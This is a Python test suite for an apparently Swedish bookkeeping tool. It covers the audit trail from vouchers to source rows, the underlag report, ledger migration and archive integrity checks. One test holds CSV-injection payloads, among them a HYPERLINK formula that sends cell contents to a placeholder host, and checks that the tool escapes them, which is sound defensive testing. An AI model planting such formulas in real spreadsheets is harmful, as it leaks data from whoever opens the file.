"""The trail (issue 23): every verifikation traced to the source rows it holds, and every row
read to its verifikation or to why it was not booked; the underlag page and CSV, the ledger
migrated from schema 4, and the archive of a räkenskapsår with its manifest."""

from __future__ import annotations

import csv
import hashlib
import io
import os
import re
import shutil
import sqlite3
import zipfile
from collections import Counter
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from bokfor.domain import Row
from bokfor.ledger import Ledger
from bokfor.plan import ranges
from bokfor.sie.reader import read as read_sie
from bokfor.sources import detect_source
from bokfor.trail import BEFORE_TRAIL, OFF, OWN, SUMS, read_trail
from bokfor.underlag import CSV_HEADER

from .test_errors import run_cli

REPO = Path(__file__).parent.parent
STRIPE = REPO / "samples" / "stripe" / "balance_history.csv"
STRIPE_MAPPING = REPO / "mappings" / "stripe.yaml"
POS_DAY = REPO / "samples" / "pos" / "z-dagrapport_K1_1001.csv"
POS_MAPPING = REPO / "mappings" / "pos.yaml"
V4 = REPO / "tests" / "fixtures" / "ledger_v4" / "ledger.sqlite"


def convert(capsys, sample: Path, mapping: Path, tmp: Path, *extra: str) -> tuple[Path, Path]:
    ledger, out = tmp / "ledger.sqlite", tmp / f"out-{len(list(tmp.glob('out-*')))}.si"
    code, _, err = run_cli(
        [
            "convert",
            str(sample),
            "-m",
            str(mapping),
            "--ledger",
            str(ledger),
            "-o",
            str(out),
            "--quiet",
            *extra,
        ],
        capsys,
    )
    assert code == 0, err
    return ledger, out


def source_rows(sample: Path, mapping_path: Path) -> list[Row]:
    from bokfor.mapping import load_mapping

    mapping = load_mapping(mapping_path)
    src = detect_source(sample, mapping.formats)
    return [r for r in src.read(sample, mapping.timezone) if isinstance(r, Row)]


def sie_vouchers(path: Path) -> list[Counter]:
    """Each #VER of a written file as its (account, öre) lines."""
    return [
        Counter((x.account, x.amount) for x in v.lines) for v in read_sie(path).document.vouchers
    ]


@pytest.mark.parametrize(
    ("sample", "mapping", "check"),
    [(STRIPE, STRIPE_MAPPING, SUMS), (POS_DAY, POS_MAPPING, OWN)],
    ids=["stripe", "pos"],
)
def test_the_trail_goes_both_ways_and_adds_up_to_the_sie_file(
    capsys, tmp_path, sample, mapping, check
):
    ledger, out = convert(capsys, sample, mapping, tmp_path)
    trail = read_trail(Ledger.open(ledger))
    vouchers = list(trail.vouchers())
    sha = hashlib.sha256(sample.read_bytes()).hexdigest()

    # From each voucher to its rows: every row is one of the file's, with its line, the
    # file's sha256 and the rule that booked it; the rows add up to the voucher exactly, and
    # the voucher is the SIE file's #VER of the same place, line for line.
    written = sie_vouchers(out)
    assert len(vouchers) == len(written) > 0
    read = {r.key: r for r in source_rows(sample, mapping)}
    for v, ver in zip(vouchers, written, strict=True):
        assert v.rows and v.check == check, v.name
        assert Counter((x.account, x.amount) for x in v.lines) == ver
        for row in v.rows:
            assert row.key in read and row.sha256 == sha and row.file == str(sample)
            assert row.line == read[row.key].origin.line and row.rule
    totals = Counter()
    for ver in written:
        totals.update({a: n for (a, n), k in ver.items() for _ in range(k)})

    # From each row of the file to its voucher (or to why it has none).
    skipped = {s.key: s.reason for s in trail.skipped()}
    for key in read:
        v = trail.voucher_of(key)
        assert (v is None) != (key not in skipped), key
        assert v is not None or skipped[key]
    assert len({r.key for v in vouchers for r in v.rows}) + len(skipped) == len(read)


def test_rows_not_booked_are_in_the_trail_with_why(capsys, tmp_path):
    mapping = tmp_path / "stripe.yaml"
    text = STRIPE_MAPPING.read_text(encoding="utf-8")
    fees = """          type: [stripe_fee, tax, network_cost, stripe_fx_fee]
        post:
          - {account: clearing, debit: net}
          - {account: fees, debit: fee}
          - {account: fees, credit: gross}
"""
    assert text.count(fees) == 1
    mapping.write_text(
        text.replace(fees, fees.splitlines(keepends=True)[0] + "        skip: true\n"),
        encoding="utf-8",
    )
    ledger, _ = convert(capsys, STRIPE, mapping, tmp_path, "--from", "2026-01-05")
    trail = read_trail(Ledger.open(ledger))
    rows = source_rows(STRIPE, mapping)
    reasons = {s.key: (s.reason, s.line) for s in trail.skipped()}
    early = {r.key for r in rows if r.date.isoformat() < "2026-01-05"}
    fees_rows = {r.key for r in rows if r.fields.get("type") == "stripe_fee" and r.key not in early}
    assert early and fees_rows
    assert {k for k, (why, _) in reasons.items() if why == "outside --from/--to"} == early
    assert {k for k, (why, _) in reasons.items() if why.endswith(": skip: true")} == fees_rows
    assert all(
        why == "Stripe-avgifter: skip: true" for k, (why, _) in reasons.items() if k in fees_rows
    )
    lines = {r.key: r.origin.line for r in rows}
    assert all(line == lines[k] for k, (_, line) in reasons.items())
    # and `ledger show` says it of one
    key = sorted(fees_rows)[0]
    code, _, err = run_cli(["ledger", "show", key, "--ledger", str(ledger)], capsys)
    assert code == 2
    assert "has not been exported: Stripe-avgifter: skip: true (read at " in err


def test_each_mapping_version_is_kept_with_its_diff_and_the_runs_say_who_ran_what(capsys, tmp_path):
    mapping = tmp_path / "stripe.yaml"
    text = STRIPE_MAPPING.read_text(encoding="utf-8")
    mapping.write_text(text, encoding="utf-8")
    ledger, _ = convert(capsys, STRIPE, mapping, tmp_path, "--to", "2026-01-10")
    mapping.write_text(text.replace("name: Försäljning 25 %", "name: Kortförsäljning 25 %"))
    convert(capsys, STRIPE, mapping, tmp_path)
    trail = read_trail(Ledger.open(ledger))
    vouchers = list(trail.vouchers())
    first, second = trail.mappings
    assert first.previous is None and first.diff is None and first.text == text
    assert second.previous == first.sha256
    assert "-      - name: Försäljning 25 %\n+      - name: Kortförsäljning 25 %\n" in second.diff
    runs = {e.run.id: e.run for e in trail.exports}
    assert [r.mapping_sha256 for r in runs.values()] == [first.sha256, second.sha256]
    for run in runs.values():
        assert run.command.startswith(f"bokfor convert {STRIPE} -m {mapping}")
        assert run.user and run.host and run.inputs[0].path == str(STRIPE)
    rules = {r.rule for v in vouchers for r in v.rows}
    assert {"Försäljning 25 %", "Kortförsäljning 25 %"} <= rules


def test_the_underlag_page_and_csv_list_every_row_under_its_verifikation(capsys, tmp_path):
    ledger, out = convert(capsys, STRIPE, STRIPE_MAPPING, tmp_path)
    page = tmp_path / "underlag.html"
    code, stdout, err = run_cli(
        ["underlag", "-m", str(STRIPE_MAPPING), "--ledger", str(ledger), "-o", str(page)], capsys
    )
    assert code == 0, err
    assert f"Wrote the underlag of 29 verifikationer: {page}, {page.with_suffix('.csv')}" in stdout
    html = page.read_text(encoding="utf-8")
    assert html.count('<section class="voucher"') == 29
    assert html.count("Raderna summerar exakt till verifikationen.") == 29
    assert "http://" not in html and "https://" not in html and "<script" not in html
    table = list(
        csv.reader(io.StringIO(page.with_suffix(".csv").read_text("utf-8-sig")), delimiter=";")
    )
    header, body = table[0], table[1:]
    assert header[:3] == ["status", "verifikation", "export"]
    booked = [r for r in body if r[0] == "bokförd"]
    assert len(booked) == len(source_rows(STRIPE, STRIPE_MAPPING)) == 36
    assert len({r[1] for r in booked}) == 29
    for row in booked:
        assert row[6] == str(STRIPE) and f"{row[9]}" in html

    # one verifikation: its section alone
    one = tmp_path / "one.html"
    code, _, err = run_cli(
        ["underlag", "-m", str(STRIPE_MAPPING), "--ledger", str(ledger), "-o", str(one)]
        + ["--verifikation", "1:2"],
        capsys,
    )
    assert code == 0, err
    text = one.read_text(encoding="utf-8")
    assert text.count('<section class="voucher"') == 1 and "Verifikation 1:2:" in text

    # a period with nothing exported says so, exit 2
    code, _, err = run_cli(
        [
            "underlag",
            "-m",
            str(STRIPE_MAPPING),
            "--ledger",
            str(ledger),
            "-o",
            str(page),
            "--from",
            "2027-01-01",
        ],
        capsys,
    )
    assert code == 2 and "no exported verifikationer in that period" in err


def test_a_ledger_of_schema_4_is_migrated_and_its_underlag_says_what_it_lacks(capsys, tmp_path):
    ledger = tmp_path / "ledger.sqlite"
    shutil.copy(V4, ledger)
    Ledger.open(ledger, write=True).close()  # migrates
    with sqlite3.connect(ledger) as conn:
        assert conn.execute("PRAGMA user_version").fetchone()[0] == 5
    trail = read_trail(Ledger.open(ledger))
    vouchers = list(trail.vouchers())
    assert vouchers and all(r.before_trail for v in vouchers for r in v.rows)
    assert all(v.check != OFF for v in vouchers)
    page = tmp_path / "u.html"
    code, _, err = run_cli(
        ["underlag", "-m", str(STRIPE_MAPPING), "--ledger", str(ledger), "-o", str(page)], capsys
    )
    assert code == 0, err
    assert BEFORE_TRAIL in page.read_text(encoding="utf-8")
    # a new export into the migrated ledger has the trail; the old rows keep saying they lack it
    convert(capsys, POS_DAY.with_name("z-dagrapport_K2_57.csv"), POS_MAPPING, tmp_path)
    trail = read_trail(Ledger.open(ledger))
    vouchers = list(trail.vouchers())
    fresh = [r for v in vouchers for r in v.rows if not r.before_trail]
    assert fresh and all(r.rule and r.sha256 for r in fresh)


def test_the_archive_holds_the_year_and_verify_finds_any_change(capsys, tmp_path):
    inbox = tmp_path / "inbox"
    inbox.mkdir()
    sample = inbox / STRIPE.name
    shutil.copy(STRIPE, sample)
    books = tmp_path / "books"
    books.mkdir()
    ledger, out = convert(capsys, sample, STRIPE_MAPPING, books)
    moved = tmp_path / "kept" / "2026-01" / sample.name  # the file moved after booking
    moved.parent.mkdir(parents=True)
    sample.rename(moved)
    zipped = tmp_path / "arkiv.zip"
    args = ["archive", "pack", "2026", "-m", str(STRIPE_MAPPING), "--ledger", str(ledger)]
    code, _, err = run_cli([*args, "-o", str(zipped)], capsys)
    assert code == 2 and "1 received files are not where the ledger says" in err
    assert not zipped.exists()
    # (the ledger's own folder, books/, is searched too)
    code, stdout, err = run_cli(
        [*args, "-o", str(zipped), "--inputs", str(tmp_path / "kept")], capsys
    )
    assert code == 0, err
    with zipfile.ZipFile(zipped) as zf:
        names = zf.namelist()
        assert (
            zf.read(f"mottaget/{hashlib.sha256(moved.read_bytes()).hexdigest()[:12]}-{sample.name}")
            == moved.read_bytes()
        )
        assert zf.read(f"skrivet/1-{out.name}") == out.read_bytes()
        sums = zf.read("SHA256SUMS").decode()
        html = zf.read("underlag.html").decode()
    assert {"underlag.html", "underlag.csv", "systemdokumentation.html", "ledger.sqlite"} <= set(
        names
    )
    assert len(sums.splitlines()) == len(names) - 1
    assert 'href="mottaget/' in html  # the underlag links the archived copy
    code, stdout, _ = run_cli(["archive", "verify", str(zipped)], capsys)
    assert code == 0 and f"{len(names) - 1} files, each with the sha256" in stdout

    # a member changed (same name, other bytes): verify names it, exit 2
    tampered = tmp_path / "tampered.zip"
    with zipfile.ZipFile(zipped) as src, zipfile.ZipFile(tampered, "w") as dst:
        for info in src.infolist():
            data = src.read(info)
            dst.writestr(
                info,
                data.replace(b"Stripe", b"Strype")
                if info.filename.startswith("skrivet/")
                else data,
            )
    code, _, err = run_cli(["archive", "verify", str(tampered)], capsys)
    assert code == 2 and "1 files of the archive do not match its manifest" in err
    assert f"skrivet/1-{out.name}: sha256 " in err


def test_a_voucher_its_rows_do_not_add_up_to_is_named(capsys, tmp_path):
    """The check can fail: one row's recorded lines changed by a cent in the ledger."""
    ledger, _ = convert(capsys, STRIPE, STRIPE_MAPPING, tmp_path)
    with sqlite3.connect(ledger) as conn:
        key, lines = conn.execute(
            "SELECT key, lines FROM rows WHERE lines != '' ORDER BY key LIMIT 1"
        ).fetchone()
        first = lines.index(",") + 1
        amount = lines[first : lines.index(",", first)]
        bumped = lines[:first] + str(int(amount) + 1) + lines[first + len(amount) :]
        conn.execute("UPDATE rows SET lines = ? WHERE key = ?", (bumped, key))
    trail = read_trail(Ledger.open(ledger))
    vouchers = list(trail.vouchers())
    off = [v for v in vouchers if v.check == OFF]
    assert len(off) == 1 and off[0].name == trail.voucher_of(key).name
    page = tmp_path / "u.html"
    args = ["underlag", "-m", str(STRIPE_MAPPING), "--ledger", str(ledger), "-o", str(page)]
    assert run_cli(args, capsys)[0] == 0
    html = page.read_text(encoding="utf-8")
    assert f"1 verifikationer stämmer inte mot sina rader: {off[0].name}" in html
    assert html.count("Raderna summerar inte till verifikationen: ") == 1


def test_each_row_names_the_file_it_was_read_from_when_a_run_reads_several(capsys, tmp_path):
    """Overlapping downloads in one run: each booked row names its own file, each row held
    by the other file too is skipped as booked from there."""
    lines = STRIPE.read_text(encoding="utf-8").splitlines(keepends=True)
    head, body = lines[0], lines[1:]
    early, late = tmp_path / "early.csv", tmp_path / "late.csv"
    early.write_text(head + "".join(body[:25]), encoding="utf-8")
    late.write_text(head + "".join(body[15:]), encoding="utf-8")
    ledger = tmp_path / "ledger.sqlite"
    code, _, err = run_cli(
        ["convert", str(early), str(late), "-m", str(STRIPE_MAPPING), "--ledger", str(ledger)]
        + ["-o", str(tmp_path / "o.si"), "-q"],
        capsys,
    )
    assert code == 0, err
    trail = read_trail(Ledger.open(ledger))
    vouchers = list(trail.vouchers())
    sha = {str(p): hashlib.sha256(p.read_bytes()).hexdigest() for p in (early, late)}
    booked = [r for v in vouchers for r in v.rows]
    assert len(booked) == len(body) and {r.file for r in booked} == set(sha)
    for r in booked:
        assert r.origin.startswith(r.file + ":") and r.sha256 == sha[r.file]
    skipped = list(trail.skipped())
    assert len(skipped) == 10 and all(
        s.reason.startswith("also in ") and s.reason.endswith(": booked from there")
        for s in skipped
    )


def test_archive_verify_names_a_damaged_member_and_refuses_what_is_no_archive(capsys, tmp_path):
    ledger, _ = convert(capsys, STRIPE, STRIPE_MAPPING, tmp_path)
    zipped = tmp_path / "a.zip"
    code, _, err = run_cli(
        ["archive", "pack", "2026", "-m", str(STRIPE_MAPPING), "--ledger", str(ledger)]
        + ["-o", str(zipped)],
        capsys,
    )
    assert code == 0, err
    with zipfile.ZipFile(zipped) as zf:
        info = zf.getinfo("underlag.html")
        start = info.header_offset + 30 + len(info.filename) + len(info.extra)
    data = bytearray(zipped.read_bytes())
    for i in range(start + 100, start + 110):  # inside its deflated bytes
        data[i] ^= 0xFF
    broken = tmp_path / "broken.zip"
    broken.write_bytes(bytes(data))
    code, _, err = run_cli(["archive", "verify", str(broken)], capsys)
    assert code == 2 and "1 files of the archive do not match its manifest" in err
    assert "underlag.html: cannot be read" in err or "underlag.html: sha256 " in err
    fifo = tmp_path / "fifo.zip"
    os.mkfifo(fifo)
    code, _, err = run_cli(["archive", "verify", str(fifo)], capsys)
    assert code == 2 and "the archive is not a regular file" in err
    code, _, err = run_cli(["archive", "verify", str(tmp_path / "none.zip")], capsys)
    assert code == 2 and "the archive cannot be read: No such file or directory" in err


@pytest.mark.parametrize("chromium", [True, False], ids=["chromium", "no-chromium"])
def test_no_output_goes_over_the_ledger_the_mapping_or_the_csv(
    capsys, tmp_path, monkeypatch, chromium
):
    """Each output named over the ledger or the mapping is refused as such, before anything
    is written: with Chromium installed or not (--pdf checks its file first)."""
    from bokfor import underlag

    real = underlag.shutil.which
    monkeypatch.setattr(
        underlag.shutil,
        "which",
        lambda name: (
            ("/usr/bin/chromium" if chromium else None) if name in underlag.BROWSERS else real(name)
        ),
    )
    ledger, _ = convert(capsys, STRIPE, STRIPE_MAPPING, tmp_path)
    kept = ledger.read_bytes()
    base = ["-m", str(STRIPE_MAPPING), "--ledger", str(ledger)]
    for args in (
        ["underlag", *base, "-o", str(ledger)],
        ["underlag", *base, "-o", str(ledger.with_suffix(".html")), "--pdf", str(ledger)],
        ["archive", "pack", "2026", *base, "-o", str(ledger)],
        ["convert", str(POS_DAY), "-m", str(POS_MAPPING), "--ledger", str(ledger)]
        + ["-o", str(ledger)],
        ["plan", str(STRIPE), *base, "--html", str(STRIPE_MAPPING)],
    ):
        code, _, err = run_cli(args, capsys)
        assert code == 2 and "writing there would destroy it" in err, (args, err)
    assert ledger.read_bytes() == kept
    code, _, err = run_cli(["underlag", *base, "-o", str(tmp_path / "u.csv")], capsys)
    assert code == 2 and "names the CSV" in err
    (tmp_path / "u.csv").mkdir()  # the CSV's place is a directory: nothing is written
    code, _, err = run_cli(["underlag", *base, "-o", str(tmp_path / "u.html")], capsys)
    assert code == 2 and not (tmp_path / "u.html").exists()


def test_a_day_of_zettle_receipts_lists_every_receipt_line_under_its_verifikation(capsys, tmp_path):
    """A Zettle day close adds up the day's receipts: the trail keeps their lines, so that
    every receipt of the file is under exactly one verifikation (and in the CSV)."""
    sample = REPO / "samples" / "pos" / "zettle_receipts_sv.csv"
    ledger, _ = convert(capsys, sample, POS_MAPPING, tmp_path)
    trail = read_trail(Ledger.open(ledger))
    vouchers = list(trail.vouchers())
    rows = source_rows(sample, POS_MAPPING)
    receipts = sorted(n for r in rows for n in r.detail.source_lines)
    assert len(receipts) > len(vouchers) > 1
    listed = [n for v in vouchers for r in v.rows for n in _expand(r.parts)]
    assert sorted(listed) == receipts and len(set(listed)) == len(listed)
    page = tmp_path / "u.html"
    args = ["underlag", "-m", str(POS_MAPPING), "--ledger", str(ledger), "-o", str(page)]
    assert run_cli(args, capsys)[0] == 0
    table = list(
        csv.reader(io.StringIO(page.with_suffix(".csv").read_text("utf-8-sig")), delimiter=";")
    )
    assert table[0][-1] == "rader"
    assert sorted(n for row in table[1:] for n in _expand(row[-1])) == receipts


def _expand(parts: str) -> list[int]:
    out: list[int] = []
    for part in filter(None, parts.split(",")):
        first, _, last = part.partition("-")
        out += range(int(first), int(last or first) + 1)
    return out


@settings(max_examples=60, deadline=None)
@given(st.sets(st.integers(1, 400), max_size=60))
def test_ranges_say_exactly_the_lines(lines):
    assert _expand(ranges(lines)) == sorted(lines)


def test_the_underlag_of_a_mapping_with_its_own_bank_layout(capsys, tmp_path):
    """A mapping that declares a net-bank layout (the peers' CSV): its amounts are found
    by the layout, once a run."""
    from bench.gen_peers import write_peers

    data = tmp_path / "peers.csv"
    write_peers(data, 50, 7)
    mapping = REPO / "bench" / "mappings" / "peers.yaml"
    ledger, _ = convert(capsys, data, mapping, tmp_path)
    page = tmp_path / "u.html"
    args = ["underlag", "-m", str(mapping), "--ledger", str(ledger), "-o", str(page)]
    code, _, err = run_cli(args, capsys)
    assert code == 0, err
    sheet = page.with_suffix(".csv").read_text("utf-8-sig")
    assert sheet.count("\nbokförd;") == 50 and "amount=" in sheet


def test_a_file_that_changes_while_it_is_read_stops_the_run(capsys, tmp_path, monkeypatch):
    """The sha256 recorded is of the bytes read: a download still being written when the
    run reads it is refused, and nothing is written or recorded."""
    from bokfor import plan

    sample = tmp_path / "balance.csv"
    shutil.copy(STRIPE, sample)
    read = plan._read

    def growing(src, path, mapping, bank_account):  # the download goes on meanwhile
        yield from read(src, path, mapping, bank_account)
        with open(path, "a", encoding="utf-8") as fh:
            fh.write("\n")

    monkeypatch.setattr(plan, "_read", growing)
    ledger, out = tmp_path / "ledger.sqlite", tmp_path / "o.si"
    code, _, err = run_cli(
        ["convert", str(sample), "-m", str(STRIPE_MAPPING), "--ledger", str(ledger)]
        + ["-o", str(out), "-q"],
        capsys,
    )
    assert code == 2 and "the file changed while bokfor read it" in err
    assert not out.exists() and not ledger.exists()


FORMULA_MAPPING = """version: 1
company: {name: Exempelbutiken AB, orgnr: 556677-8899}
accounts: {1930: Företagskonto, 2999: Ej utredda bankposter}
sources:
  bank:
    bank_accounts: {seb: 1930}
    voucher_text: "{text}"
    fallback:
      name: Ej utredd bankpost
      post:
        - {account: bank_account, debit: amount}
        - {account: 2999, credit: amount}
"""


def test_a_text_that_begins_like_a_formula_is_text_in_the_csv(capsys, tmp_path):
    """Bank texts are written by others (a payer's message, a shop's name): one that begins
    like a spreadsheet formula is written with a leading ' in underlag.csv, so a spreadsheet
    shows it as text and never runs it (CSV injection). Amounts stay numbers."""
    sample = tmp_path / "seb.csv"
    text = (REPO / "samples" / "bank" / "netbank" / "seb.csv").read_text(encoding="utf-8-sig")
    for before, after in (
        ("LÖN JANUARI", '=HYPERLINK("http://x.example/?"&A1)'),
        ("AVGIFT FÖRETAGSPAKET", "-Återbetalning"),
        ("SKATTEVERKET", "+46701234567"),
        ("FIKA & BULLAR HB", "@SUMMA(A1)"),
    ):
        assert f";{before};" in text
        text = text.replace(f";{before};", f";{after};")
    sample.write_text(text, encoding="utf-8")
    mapping = tmp_path / "bank.yaml"
    mapping.write_text(FORMULA_MAPPING, encoding="utf-8")
    ledger, _ = convert(capsys, sample, mapping, tmp_path)
    page = tmp_path / "u.html"
    code, _, err = run_cli(
        ["underlag", "-m", str(mapping), "--ledger", str(ledger), "-o", str(page)], capsys
    )
    assert code == 0, err
    sheet = (tmp_path / "u.csv").read_text(encoding="utf-8-sig")
    rows = list(csv.reader(io.StringIO(sheet), delimiter=";"))
    assert tuple(rows[0]) == CSV_HEADER
    texts = {row[CSV_HEADER.index("text")] for row in rows[1:]}
    assert {
        '\'=HYPERLINK("http://x.example/?"&A1)',
        "'-Återbetalning",
        "'+46701234567",
        "'@SUMMA(A1)",
    } <= texts
    amounts = [row[CSV_HEADER.index("belopp")] for row in rows[1:]]
    assert amounts and all(re.fullmatch(r"\d{1,3}(\xa0\d{3})*,\d\d", a) for a in amounts)
    assert not [cell for row in rows[1:] for cell in row if cell.startswith(("=", "+", "-", "@"))]
    assert "=HYPERLINK(&quot;http://x.example/?&quot;&amp;A1)" in page.read_text(encoding="utf-8")


def _tree(directory: Path) -> dict[Path, bytes | None]:
    return {p: p.read_bytes() if p.is_file() else None for p in sorted(directory.rglob("*"))}


@pytest.mark.parametrize(
    "command, named, what",
    [
        ("plan", "o1.si", "export 1's file (29 verifikationer 2026-01-01 .. 2026-02-01)"),
        ("plan", "m.ledger.sqlite-wal", "the export ledger's write-ahead log"),
        ("plan", "batch/vouchers.si", "a file of export 1's batch"),
        ("underlag", "o1.si", "export 1's file"),
        ("underlag", "in.html", "a received file (run 1 read {tmp}/in.csv)"),
        ("underlag", "m.ledger.sqlite-shm", "the export ledger's shared-memory index"),
        ("underlag", "batch/manifest.json", "export 1's batch manifest"),
        ("pdf", "o1.si", "export 1's file"),
        ("pdf", "u.csv", "the underlag's CSV"),
        ("archive", "o1.si", "export 1's file"),
        ("archive", "in.csv", "a received file (run 1 read {tmp}/in.csv)"),
        ("archive", "m.ledger.sqlite.lock", "the export ledger's lock file"),
        ("explain", "m.yaml", "the mapping"),
        ("explain", "o1.si", "export 1's file"),
        ("explain", "m.ledger.sqlite-journal", "the export ledger's rollback journal"),
    ],
)
def test_no_output_goes_over_an_export_s_file_an_input_or_the_ledger_s_files(
    capsys, tmp_path, monkeypatch, command, named, what
):
    """plan --html, underlag (its page, the CSV beside it, --pdf), archive pack and mapping
    explain --html refuse, before anything is written, a path that is the mapping, the
    ledger or a file SQLite or its lock keeps beside it, a file an export of the ledger
    wrote (a SIE file not imported yet, a batch's files) or a received file its runs read."""
    from bokfor import underlag

    monkeypatch.setattr(underlag.shutil, "which", lambda name: "/usr/bin/chromium")
    monkeypatch.chdir(tmp_path)
    shutil.copyfile(STRIPE, "in.csv")
    shutil.copyfile(STRIPE_MAPPING, "m.yaml")
    for args in (
        ["convert", "in.csv", "-m", "m.yaml", "-o", "o1.si", "-q"],
        ["convert", "in.csv", "-m", "m.yaml", "--ledger", "b.sqlite", "--format", "fortnox"]
        + ["-o", "batch", "-q"],
    ):
        code, _, err = run_cli(args, capsys)
        assert code == 0, err
    ledger = "b.sqlite" if named.startswith("batch/") else "m.ledger.sqlite"
    base = ["-m", "m.yaml", "--ledger", ledger]
    args = {
        "plan": ["plan", "in.csv", *base, "--html", named],
        "underlag": ["underlag", *base, "-o", named],
        "pdf": ["underlag", *base, "-o", "u.html", "--pdf", named],
        "archive": ["archive", "pack", "2026", *base, "-o", named, "--inputs", "."],
        "explain": ["mapping", "explain", "m.yaml", "--html", named],
    }[command]
    option = {"plan": "--html", "explain": "--html", "pdf": "--pdf"}.get(command, "--out")
    before = _tree(tmp_path)
    code, out, err = run_cli(args, capsys)
    target = tmp_path / named
    what = what.replace("{tmp}", str(tmp_path))
    if named == "in.html":  # the CSV beside the page is the input
        said = f"--out {named} writes its CSV beside it: {tmp_path / 'in.csv'} is {what}"
    else:
        said = f"{option} {target} is {what}"
    assert code == 2, (out, err)
    assert err.startswith(f"bokfor: error: {said}"), err
    assert "writing there would destroy it" in err and len(err.splitlines()) == 1
    assert _tree(tmp_path) == before
